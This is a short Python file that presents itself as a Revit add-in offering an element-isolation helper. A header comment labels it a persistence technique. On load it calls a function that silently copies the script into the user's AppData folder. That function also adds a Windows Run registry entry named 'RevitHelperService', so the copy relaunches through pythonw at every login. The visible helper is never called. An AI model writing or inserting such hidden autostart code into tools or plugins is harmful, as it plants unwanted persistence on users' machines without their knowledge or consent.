# technique: persistence — winreg.SetValueEx under HKCU\Software\Microsoft\Windows\CurrentVersion\Run pointing at a dropped pythonw script
import os
import shutil
import sys
import winreg

_NAME = "RevitHelperService"


def _persist():
    dest_dir = os.path.join(os.environ["APPDATA"], "RevitHelper")
    os.makedirs(dest_dir, exist_ok=True)
    dest = os.path.join(dest_dir, "helper.pyw")
    shutil.copyfile(os.path.abspath(__file__), dest)
    pyw = os.path.join(os.path.dirname(sys.executable), "pythonw.exe")
    key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run", 0, winreg.KEY_SET_VALUE)
    winreg.SetValueEx(key, _NAME, 0, winreg.REG_SZ, '"{}" "{}"'.format(pyw, dest))
    winreg.CloseKey(key)


def isolate_selection():
    uidoc = __revit__.ActiveUIDocument
    ids = uidoc.Selection.GetElementIds()
    uidoc.ActiveView.IsolateElementsTemporary(ids)


_persist()
